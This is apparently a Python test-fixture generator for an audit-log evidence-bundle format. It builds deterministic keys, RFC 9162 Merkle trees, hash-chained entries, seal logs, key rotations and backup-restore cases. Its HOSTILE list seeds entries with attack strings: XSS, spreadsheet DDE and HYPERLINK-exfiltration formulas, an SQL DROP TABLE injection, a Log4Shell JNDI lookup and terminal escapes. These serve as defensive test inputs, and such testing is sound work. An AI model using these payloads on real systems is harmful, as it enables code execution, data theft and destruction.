"""A small world to make evidence bundles of: tenants, entries, trees, a seal log and its keys. No clock, no chance:
every time is counted from a fixed one, and every key, salt and identifier is a hash of its name.

The strings in the entries are what a log really gets to see: markup, spreadsheet formulas, terminal escapes.
"""

import base64
import functools
import hashlib
import os
import struct
import subprocess
import tempfile
import uuid

import auditproof_format as fmt

DAY = 86_400_000_000
Y2018, Y2026 = 1_514_764_800_000_000, 1_767_225_600_000_000
ORIGIN = "audit.example/log"

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tTab first",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "Zoë Ωmega 漢字 🔒 \u202egnp.exe",
    'quote " backslash \\ newline \n return \r\n tab \t',
    "</textarea>'\"--><svg/onload=alert(3)>",
    "'; DROP TABLE audit_logs; --",
    "\u2028line\u2029paragraph\x7fdelete\x01one",
    "${jndi:ldap://192.0.2.2/a} {{7*7}} %s%n",
)


def named(what, length=32):
    return hashlib.shake_256(b"auditproof bundle vectors: " + what.encode()).digest(length)


def named_uuid(what):
    return str(uuid.UUID(bytes=named(what, 16), version=4))


# ---- Keys


@functools.lru_cache(maxsize=None)
def openssl(arguments, *inputs):
    """openssl's output over inputs that it wants as files, named by number in the arguments."""
    with tempfile.TemporaryDirectory() as directory:
        for index, content in enumerate(inputs):
            with open(os.path.join(directory, str(index)), "wb") as file:
                file.write(content)
        return subprocess.run(("openssl",) + arguments, cwd=directory, capture_output=True, check=True).stdout


class Signer:
    """An Ed25519 key made of its name."""

    def __init__(self, seed, name, kind=1):
        self.name = name
        self.der = bytes.fromhex("302e020100300506032b657004220420") + named("key " + seed)
        self.spki = openssl(("pkey", "-inform", "DER", "-in", "0", "-pubout", "-outform", "DER"), self.der)
        raw = bytes([kind]) + self.spki[-32:]
        self.id = hashlib.sha256(name.encode() + b"\n" + raw).digest()[:4]
        self.vkey = "%s+%s+%s" % (name, self.id.hex(), base64.b64encode(raw).decode())
        self.fingerprint = hashlib.sha256(self.spki).hexdigest()

    def sign(self, message):
        return openssl(("pkeyutl", "-sign", "-rawin", "-keyform", "DER", "-inkey", "0", "-in", "1"), self.der, message)

    def line(self, text):
        return "\u2014 %s %s\n" % (self.name, base64.b64encode(self.id + self.sign(text.encode())).decode())

    def cosignature(self, text, time):
        message = "cosignature/v1\ntime %d\n" % time + text
        raw = self.id + struct.pack(">Q", time) + self.sign(message.encode())
        return "\u2014 %s %s\n" % (self.name, base64.b64encode(raw).decode())

    def pem(self):
        return "-----BEGIN PUBLIC KEY-----\n%s\n-----END PUBLIC KEY-----\n" % base64.b64encode(self.spki).decode()


def note(text, *signers):
    return text + "\n" + "".join(signer.line(text) for signer in signers)


# ---- Trees, as RFC 9162 defines them (the checker walks them, as it describes verifying)


def split(count):
    return 1 << (count - 1).bit_length() - 1


def node(left, right):
    return hashlib.sha256(b"\x01" + left + right).digest()


def root(leaves):
    if len(leaves) < 2:
        return leaves[0] if leaves else hashlib.sha256(b"").digest()
    k = split(len(leaves))
    return node(root(leaves[:k]), root(leaves[k:]))


def inclusion(index, leaves):
    if len(leaves) == 1:
        return []
    k = split(len(leaves))
    if index < k:
        return inclusion(index, leaves[:k]) + [root(leaves[k:])]
    return inclusion(index - k, leaves[k:]) + [root(leaves[:k])]


def consistency(size, leaves, whole=True):
    if size == len(leaves):
        return [] if whole else [root(leaves)]
    k = split(len(leaves))
    if size <= k:
        return consistency(size, leaves[:k], whole) + [root(leaves[k:])]
    return consistency(size - k, leaves[k:], False) + [root(leaves[:k])]


def hexes(hashes):
    return [item.hex() for item in hashes]


# ---- Chains


class Entry:
    def __init__(self, chain, seq, recorded_at, created_at, prev):
        name = "%s %d" % (chain.name, seq)
        hostile = HOSTILE[seq % len(HOSTILE)]
        self.chain, self.seq, self.recorded_at, self.created_at, self.prev = chain, seq, recorded_at, created_at, prev
        self.columns = {
            "id": named_uuid("id " + name),
            "organization_id": None if chain.id == fmt.NIL_UUID else chain.id,
            "actor_id": named_uuid("actor " + chain.name + str(seq % 3)),
            "actor_email": "user%d@%s.example" % (seq % 3, chain.name),
            "actor_role": "admin" if seq % 4 else None,
            "action": hostile if seq % 5 == 0 else ("user.created", "auth.login", "role.granted")[seq % 3],
            "resource_type": "profile" if seq % 2 else hostile,
            "resource_id": named_uuid("resource " + name),
            "risk_level": ("low", "medium", "high", "critical")[seq % 4],
            "ip_address": "192.0.2.%d" % (seq % 250) if seq % 2 else "2001:db8::%x" % seq,
            "user_agent": hostile,
            "session_id": "session-" + name.replace(" ", "-"),
            "old_values": None,
            "new_values": '{"name": %s}' % fmt.json_string(hostile),
            "metadata": "null" if seq % 7 == 0 else "{}",
        }
        self.salt = named("salt " + name, 48)
        self.texts = fmt.group_texts(self.columns)
        self.text = fmt.entry_text(self.columns, created_at, fmt.commitments(self.columns, self.salt))
        self.record = fmt.record(chain.id, seq, recorded_at, prev, fmt.content_hash(self.text))
        self.hash = fmt.entry_hash(self.record)

    def disclosed(self, groups):
        return {
            group: {"salt": self.salt[16 * index : 16 * index + 16].hex(), "text": self.texts[group]}
            for index, group in enumerate(fmt.GROUPS)
            if group in groups
        }


class Chain:
    def __init__(self, name, chain_id, times):
        """Times: (recorded_at, created_at) of each entry."""
        self.name, self.id, self.entries = name, chain_id, []
        for seq, (recorded_at, created_at) in enumerate(times, 1):
            prev = self.entries[-1].hash if self.entries else fmt.GENESIS_PREV
            self.entries.append(Entry(self, seq, recorded_at, created_at, prev))

    def leaves(self, size):
        return [entry.hash for entry in self.entries[:size]]

    def seal(self, size, at):
        leaves = self.leaves(size)
        return (
            b"AP1S"
            + uuid.UUID(self.id).bytes
            + struct.pack(">Q", size)
            + root(leaves)
            + leaves[-1]
            + struct.pack(">q", at)
        )


class Log:
    """Rounds of seals, the checkpoint of each, and one change of the key."""

    def __init__(self, *keys):
        self.keys = [(0, keys[0])]
        self.others = list(keys[1:])
        self.records, self.seals, self.notes = [], [], []

    def leaves(self, size):
        return [hashlib.sha256(b"\0" + record).digest() for record in self.records[:size]]

    def round(self, at, *sizes):
        for chain, size in sizes:
            self.seals.append((chain.id, size, at))
            self.records.append(chain.seal(size, at))

    def change_key(self, at):
        size, old, new = len(self.records), self.keys[-1][1], self.others.pop(0)
        text = "auditproof/log-key@v1\n%s\n%s\n%d\n%d\n%s\n%d\n" % (
            old.vkey,
            new.vkey,
            len(self.keys),
            size,
            base64.b64encode(root(self.leaves(size))).decode(),
            at,
        )
        self.keys.append((size, new))
        self.notes.append(note(text, old, new))

    def key_of_json(self, number, log_size):
        """One of keys.json, with the consistency from the change to the checkpoint, where the log still has it."""
        begin, key = self.keys[number]
        if number == 0:
            return {"vkey": key.vkey, "from_size": 0}
        undone = any(later < begin for later, _ in self.keys[number + 1 :])
        path = [] if undone or begin == 0 else hexes(consistency(begin, self.leaves(log_size)))
        return {"vkey": key.vkey, "from_size": begin, "consistency": path}

    def restore(self, size):
        """From a backup: what came later is lost."""
        del self.records[size:], self.seals[size:]

    def declare_restore(self, at, known):
        """After a change to a key whose name is another. `known` is the newest checkpoint's size before."""
        (size, after), before = self.keys[-1], self.keys[-2][1]
        here, there = (
            "%d\n%s\n" % (n, base64.b64encode(r).decode())
            for n, r in ((size, root(self.leaves(size))), (known, named("a lost root")))
        )
        reason = base64.b64encode("Zoë dropped the wrong disk".encode()).decode()
        text = "auditproof/epoch@v1\n%s\n%s\n1\n%s%s%d\n%s\n" % (before.name, after.name, here, there, at, reason)
        self.notes.append(note(text, before))

    def signer(self, size):
        return [key for begin, key in self.keys if begin < size][-1]

    def text(self, size):
        return "%s\n%d\n%s\n" % (self.signer(size).name, size, base64.b64encode(root(self.leaves(size))).decode())

    def checkpoint(self, size):
        return note(self.text(size), self.signer(size))


class World:
    def __init__(self):
        self.bundle_key = Signer("bundle", "auditor.example/bundles")
        self.other_key = Signer("other", "auditor.example/bundles")
        self.log_keys = [Signer("log %d" % i, ORIGIN) for i in (1, 2)]
        self.other_log_key = Signer("other log", ORIGIN)
        self.witnesses = [Signer("witness %d" % i, "witness.example/w%d" % i, kind=4) for i in (1, 2, 3)]
        self.witness = self.witnesses[0]
        old = [(Y2018 + (40 + seq) * DAY, Y2018 + (40 + seq) * DAY) for seq in range(3)]
        times = (
            [(Y2018 + DAY, Y2018 + DAY)] + old + [(Y2026 + seq * DAY, Y2026 + seq * DAY - 17) for seq in range(5, 24)]
        )
        # Entries 20 and 22 were written after the period, and claim to be of it.
        for seq in (20, 22):
            times[seq - 1] = (times[seq - 1][0], Y2026 + 9 * DAY)
        self.acme = Chain("acme", named_uuid("acme"), times)
        # As many entries, made at the same times, so that only what they say tells the two apart.
        self.globex = Chain("globex", named_uuid("globex"), times)
        self.system = Chain("system", fmt.NIL_UUID, times[:1])
        self.chains = [self.acme, self.globex, self.system]
        self.log = Log(*self.log_keys)
        self.log.round(Y2026 + 8 * DAY, (self.acme, 6), (self.globex, 5))
        self.log.change_key(Y2026 + 9 * DAY)
        self.log.round(Y2026 + 24 * DAY, (self.acme, 23), (self.globex, 23), (self.system, 1))
        self.log.round(Y2026 + 25 * DAY, (self.globex, 23))
        restored = Signer("log 1", ORIGIN + "/since-20260109T000000Z")
        self.restored = Log(self.log_keys[0], restored)
        self.restored.round(Y2026 + 8 * DAY, (self.acme, 6), (self.globex, 5))
        self.restored.change_key(Y2026 + 9 * DAY)
        self.restored.declare_restore(Y2026 + 9 * DAY, 4)
        self.restored.round(Y2026 + 24 * DAY, (self.acme, 23), (self.globex, 23))
        # From a backup of before the first change of the key.
        later = Signer("log 2", ORIGIN + "/since-20260112T000000Z")
        self.restored_behind = Log(*self.log_keys, later)
        self.restored_behind.round(Y2026 + 8 * DAY, (self.acme, 6), (self.globex, 5))
        self.restored_behind.round(Y2026 + 10 * DAY, (self.acme, 8), (self.globex, 7))
        self.restored_behind.change_key(Y2026 + 11 * DAY)
        self.restored_behind.restore(2)
        self.restored_behind.change_key(Y2026 + 12 * DAY)
        self.restored_behind.declare_restore(Y2026 + 12 * DAY, 4)
        self.restored_behind.round(Y2026 + 24 * DAY, (self.acme, 23), (self.globex, 23))
